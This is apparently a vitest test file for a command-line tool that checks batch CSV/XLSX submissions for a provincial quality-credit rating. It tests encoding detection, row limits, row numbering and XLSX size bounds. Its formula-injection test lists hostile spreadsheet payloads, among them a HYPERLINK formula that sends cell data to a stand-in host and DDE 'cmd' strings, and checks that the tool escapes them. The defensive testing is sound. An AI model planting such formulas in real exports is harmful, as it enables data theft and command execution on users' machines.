/**
 * `jsqc batch` against issue 13 items 4–6 and 12, run as a user runs it (the built binary on real
 * files): CSV formula injection, encodings (GB18030/GBK, UTF-16 LE/BE, BOMs; JSON too), the row
 * limit as an error with the count, no partial output folder, bounded XLSX, and 问题行 giving both
 * the sheet's row and its 序号.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { mkdtemp, mkdir, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { creditCodeCheckChar } from "@jsqc/engine";
import { safeCell } from "../src/csv-safe.js";
import { detectEncoding } from "../src/encoding.js";
import { checkXlsxBounds } from "../src/xlsx-bounds.js";
import { jsqc, repo } from "./jsqc.js";

const rules = join(repo, "rules/2024.rules");
let tmp: string;

const CHARS = "0123456789ABCDEFGHJKLMNPQRTUWXY";
function code(division: string, n: number): string {
  let body = "";
  for (let k = 0, x = n; k < 9; k++) { body += CHARS[x % 31]; x = Math.floor(x / 31); }
  const first17 = `91${division}${body}`;
  return first17 + creditCodeCheckChar(first17)!;
}

const HEADER = ["序号", "企业名称", "统一社会信用代码", "地址", "联系人", "所属部门", "联系电话", "所在县(市、区)", "申报等级"];
const csvLine = (r: readonly string[]) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(",");

/** A 南京市 submission of `names.length` AA rows with applications (example 15's data). */
async function submission(names: readonly string[]): Promise<{ csv: string; jsonl: string; codes: string[] }> {
  const base = JSON.parse(await readFile(join(repo, "examples/15-yixing-huaqin-huanbao.json"), "utf8")) as Record<string, unknown>;
  const rows: string[][] = [];
  const apps: string[] = [];
  const codes: string[] = [];
  names.forEach((name, i) => {
    const cc = code("320102", 1000 + i);
    codes.push(cc);
    rows.push([String(i + 1), name, cc, `南京市玄武区某路${i}号`, name, "质量部", "025-84561234", "玄武区", "AA"]);
    apps.push(JSON.stringify({ ...base, enterprise: { name, creditCode: cc, city: "南京市", county: "玄武区" } }));
  });
  const csv = ["填报单位：南京市市场监督管理局", csvLine(HEADER), ...rows.map(csvLine)].join("\r\n") + "\r\n";
  return { csv, jsonl: apps.join("\n") + "\n", codes };
}

/** A GBK encoder built from the platform's decoder (Node has no GBK encoder of its own). */
function gbk(text: string): Buffer {
  const table = new Map<string, number[]>();
  const decoder = new TextDecoder("gbk");
  for (let a = 0x81; a <= 0xfe; a++) for (let b = 0x40; b <= 0xfe; b++) {
    if (b === 0x7f) continue;
    const ch = decoder.decode(Uint8Array.of(a, b));
    if (ch.length === 1 && ch !== "\ufffd" && !table.has(ch)) table.set(ch, [a, b]);
  }
  const out: number[] = [];
  for (const ch of text) {
    if (ch.charCodeAt(0) < 0x80) out.push(ch.charCodeAt(0));
    else { const bytes = table.get(ch); if (!bytes) throw new Error(`no GBK for ${ch}`); out.push(...bytes); }
  }
  return Buffer.from(out);
}

const utf16be = (text: string) => Buffer.from(text, "utf16le").swap16();

/** Parses a CSV we wrote (quoted cells, BOM) into rows of cells. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const text = csv.replace(/^\ufeff/, "");
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\n") { row.push(cell.replace(/\r$/, "")); rows.push(row); row = []; cell = ""; }
    else cell += c;
  }
  return rows;
}

beforeAll(async () => { tmp = await mkdtemp(join(tmpdir(), "jsqc-batch-safety-")); });
afterAll(async () => { await rm(tmp, { recursive: true, force: true }); });

describe("CSV formula injection (OWASP): no cell a spreadsheet would run", () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"];

  test("safeCell quotes = + - @ TAB CR at the start, leaves plain numbers and other text", () => {
    for (const h of hostile) expect(safeCell(h)).toBe(`'${h}`);
    expect(safeCell("-1.5")).toBe("-1.5");
    expect(safeCell("88")).toBe("88");
    expect(safeCell("南京测试企业")).toBe("南京测试企业");
    expect(safeCell("a=b")).toBe("a=b");
  });

  test("推荐名单.csv and 问题行.csv neutralise hostile names, contacts and 序号", async () => {
    const { csv, jsonl } = await submission(hostile.map((h) => h.replace(/[\t\r]/, "")).concat(["正常企业有限公司"]));
    // One bad row whose 序号 and credit code are formulas (it lands in 问题行).
    const bad = csvLine(["=1+2", "@坏", "+SUM(1)", "地址", "-2+3", "质量部", "1", "玄武区", "AA"]);
    await writeFile(join(tmp, "inj.csv"), csv + bad + "\r\n");
    await writeFile(join(tmp, "inj.jsonl"), jsonl);
    const out = join(tmp, "inj-out");
    const r = jsqc("batch", rules, join(tmp, "inj.csv"), "--applications", join(tmp, "inj.jsonl"), "--out", out);
    expect(r.code, r.err).toBe(1);
    for (const file of ["推荐名单.csv", "问题行.csv"]) {
      const rows = cellsOf(await readFile(join(out, file), "utf8"));
      expect(rows.length, file).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const results = await readFile(join(out, "推荐名单.csv"), "utf8");
    expect(results).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
    expect(results).toContain("'+cmd|' /C calc'!A0");
    const problems = cellsOf(await readFile(join(out, "问题行.csv"), "utf8"));
    expect(problems[1]!.slice(0, 3)).toEqual(["10", "'=1+2", "'+SUM(1)"]); // 2 lines above the table, 7 rows, then this one
  });
});

describe("encodings of CSV and JSON input", () => {
  const cases: [string, (t: string) => Buffer, string][] = [
    ["GBK (GB18030), as Excel/WPS save it", gbk, "GB18030（GBK）"],
    ["UTF-8 with BOM", (t) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(t)]), "UTF-8"],
    ["UTF-16LE with BOM", (t) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(t, "utf16le")]), "UTF-16LE"],
    ["UTF-16LE without BOM", (t) => Buffer.from(t, "utf16le"), "UTF-16LE"],
    ["UTF-16BE with BOM", (t) => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(t)]), "UTF-16BE"],
    ["UTF-16BE without BOM", (t) => utf16be(t), "UTF-16BE"],
  ];

  test.each(cases)("a summary in %s is read, and the encoding is reported", async (name, encode, label) => {
    const { csv, jsonl } = await submission(["南京测试企业甲有限公司", "南京测试企业乙有限公司"]);
    const file = join(tmp, `enc-${name.replace(/\W+/g, "_")}.csv`);
    await writeFile(file, encode(csv));
    await writeFile(`${file}.jsonl`, encode(jsonl));
    const r = jsqc("batch", rules, file, "--applications", `${file}.jsonl`, "--out", `${file}-out`);
    expect(r.code, r.err).toBe(0);
    expect(r.out).toContain("南京市：2 行，0 行有问题，2 家已评分");
    expect(r.out).toContain(`汇总表 CSV, ${label}`);
    expect(r.out).toContain(`编码 ${label}`);
    const list = await readFile(join(`${file}-out`, "推荐名单.csv"), "utf8");
    expect(list).toContain("南京测试企业乙有限公司");
  });

  test("detection: BOMs, NUL patterns, valid UTF-8, else GB18030", () => {
    expect(detectEncoding(Buffer.from("序号,企业名称"))).toEqual({ encoding: "utf-8", bom: false });
    expect(detectEncoding(gbk("序号,企业名称"))).toEqual({ encoding: "gb18030", bom: false });
    expect(detectEncoding(Buffer.from("序号,1", "utf16le")).encoding).toBe("utf-16le");
    expect(detectEncoding(utf16be("序号,a")).encoding).toBe("utf-16be");
    expect(detectEncoding(Buffer.from([0xef, 0xbb, 0xbf, 0x41]))).toEqual({ encoding: "utf-8", bom: true });
  });

  test("jsqc eval reads a GBK or UTF-16 application", async () => {
    const app = await readFile(join(repo, "examples/03-nanjing-huarui-zhineng-zhuangbei.json"), "utf8");
    const expected = jsqc("eval", rules, join(repo, "examples/03-nanjing-huarui-zhineng-zhuangbei.json"), "--json");
    expect(expected.code).toBe(0);
    for (const [name, bytes] of [["gbk", gbk(app)], ["utf16", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(app, "utf16le")])]] as const) {
      const file = join(tmp, `app-${name}.json`);
      await writeFile(file, bytes);
      const r = jsqc("eval", rules, file, "--json");
      expect(r.code, `${name}: ${r.err}`).toBe(0);
      expect(JSON.parse(r.out).total).toEqual(JSON.parse(expected.out).total);
    }
  });

  test("bytes that are not of the detected encoding stop the read with a clear error", async () => {
    const { csv, jsonl } = await submission(["南京测试企业甲有限公司"]);
    const file = join(tmp, "mixed.csv");
    // Valid UTF-8 for the first 64 KiB, then a stray GBK byte pair.
    await writeFile(file, Buffer.concat([Buffer.from(csv), Buffer.from(`# ${"x".repeat(70_000)}\r\n`), gbk("南京")]));
    await writeFile(`${file}.jsonl`, jsonl);
    const r = jsqc("batch", rules, file, "--applications", `${file}.jsonl`, "--out", join(tmp, "mixed-out"));
    expect(r.code).toBe(2);
    expect(r.err).toContain("含有不属于 UTF-8 编码的字节");
    expect(r.err).toContain("has bytes that are not UTF-8");
  });
});

describe("rows: a limit is an error with the count; no partial output", () => {
  test("more rows than --max-rows: exit 2 naming both numbers; no output folder, an earlier one kept", async () => {
    const { csv, jsonl } = await submission(["甲公司", "乙公司", "丙公司", "丁公司", "戊公司"]);
    const dir = join(tmp, "limit");
    await mkdir(dir);
    await writeFile(join(dir, "s.csv"), csv);
    await writeFile(join(dir, "a.jsonl"), jsonl);
    const out = join(dir, "out");
    await mkdir(out);
    await writeFile(join(out, "earlier.txt"), "an earlier run's output");
    const r = jsqc("batch", rules, join(dir, "s.csv"), "--applications", join(dir, "a.jsonl"), "--out", out, "--max-rows", "3");
    expect(r.code).toBe(2);
    expect(r.err).toContain("有 5 个数据行，超过上限 3 行");
    expect(r.err).toContain("has 5 data rows, over the limit of 3");
    expect((await readdir(dir)).sort()).toEqual(["a.jsonl", "out", "s.csv"]);
    expect(await readdir(out)).toEqual(["earlier.txt"]);
    const ok = jsqc("batch", rules, join(dir, "s.csv"), "--applications", join(dir, "a.jsonl"), "--out", out, "--max-rows", "5");
    expect(ok.code, ok.err).toBe(0);
    expect((await readdir(out)).sort()).toEqual(["results.jsonl", "推荐名单.csv", "推荐名单.xlsx", "明细", "问题行.csv"]);
    expect((await readdir(dir)).sort()).toEqual(["a.jsonl", "out", "s.csv"]);
  });

  test("100,010 rows are all read (main dropped the last 10 without a word)", async () => {
    const lines = ["填报单位：南京市市场监督管理局", HEADER.join(",")];
    for (let i = 0; i < 100_010; i++) lines.push(`${i + 1},南京测试企业${i}有限公司,${code("320102", i)},南京市玄武区某路${i}号,王工,质量部,025-84561234,玄武区,AA`);
    const file = join(tmp, "r100010.csv");
    await writeFile(file, lines.join("\r\n") + "\r\n");
    await writeFile(join(tmp, "none.jsonl"), "");
    const r = jsqc("batch", rules, file, "--applications", join(tmp, "none.jsonl"), "--out", join(tmp, "r100010-out"));
    expect(r.code, r.err).toBe(1);
    expect(r.out).toContain("南京市：100010 行，100010 行有问题，0 家已评分");
    expect(r.out).toContain("……另有 99960 行有问题，见 问题行.csv");
    const problems = (await readFile(join(tmp, "r100010-out", "问题行.csv"), "utf8")).trimEnd().split("\n");
    expect(problems).toHaveLength(100_011);
    expect(problems.at(-1)).toMatch(/^100012,100010,/);
  }, 120_000);
});

describe("问题行 numbers a row both ways", () => {
  test("行号 is the row in the file, 序号 the sheet's own number", async () => {
    const { csv, jsonl } = await submission(["甲公司", "乙公司"]);
    // A title line above, and a row whose 序号 is out of step with its place.
    const text = `2024年度江苏省质量信用AA级及以上等级认定申报汇总表\r\n${csv}${csvLine(["7", "坏公司", "91320102XXXXXXXXXX", "地址", "王工", "质量部", "025-84561234", "玄武区", "AA"])}\r\n`;
    await writeFile(join(tmp, "seq.csv"), text);
    await writeFile(join(tmp, "seq.jsonl"), jsonl);
    const r = jsqc("batch", rules, join(tmp, "seq.csv"), "--applications", join(tmp, "seq.jsonl"), "--out", join(tmp, "seq-out"));
    expect(r.code).toBe(1);
    expect(r.out).toContain("第 6 行 row 6（序号 7，91320102XXXXXXXXXX）");
    const rows = cellsOf(await readFile(join(tmp, "seq-out", "问题行.csv"), "utf8"));
    expect(rows[0]).toEqual(["行号", "序号", "统一社会信用代码", "问题"]);
    expect(rows[1]!.slice(0, 3)).toEqual(["6", "7", "91320102XXXXXXXXXX"]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(tmp, "seq-out", "推荐名单.xlsx"));
    const sheet = wb.getWorksheet("问题行")!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(["行号", "序号", "统一社会信用代码", "问题"]);
    expect((sheet.getRow(2).values as unknown[]).slice(1, 4)).toEqual([6, "7", "91320102XXXXXXXXXX"]);
  });
});

describe("XLSX input is bounded before it is read", () => {
  test("a cell of 2 MiB (the bomb's shape, small) is refused with the reason; nothing is written", async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet("汇总表");
    sheet.addRow(["填报单位：南京市市场监督管理局"]);
    sheet.addRow(HEADER);
    sheet.addRow(["1", "A".repeat(2 * 1024 * 1024)]);
    const file = join(tmp, "bomb.xlsx");
    await wb.xlsx.writeFile(file);
    await writeFile(join(tmp, "bomb.jsonl"), "");
    const r = jsqc("batch", rules, file, "--applications", join(tmp, "bomb.jsonl"), "--out", join(tmp, "bomb-out"));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/中有超过 1 MiB 的单元格文本，拒绝读取 \/ .*holds a text over 1 MiB; refused/);
    expect((await readdir(tmp)).filter((f) => f.startsWith("bomb-out"))).toEqual([]);
  });

  test("inflated size: refused past the limit, declared or real", async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet("汇总表");
    sheet.addRow(HEADER);
    for (let i = 0; i < 2000; i++) sheet.addRow([String(i + 1), `企业${i}`, "x".repeat(100)]);
    const file = join(tmp, "big.xlsx");
    await wb.xlsx.writeFile(file);
    await expect(checkXlsxBounds(file)).resolves.toBeUndefined();
    await expect(checkXlsxBounds(file, { inflated: 64 * 1024 })).rejects.toThrow(/解压后超过 .*inflates past/);
    await expect(checkXlsxBounds(file, { inflated: 64 * 1024, declared: false })).rejects.toThrow(/inflates past/);
  });
});
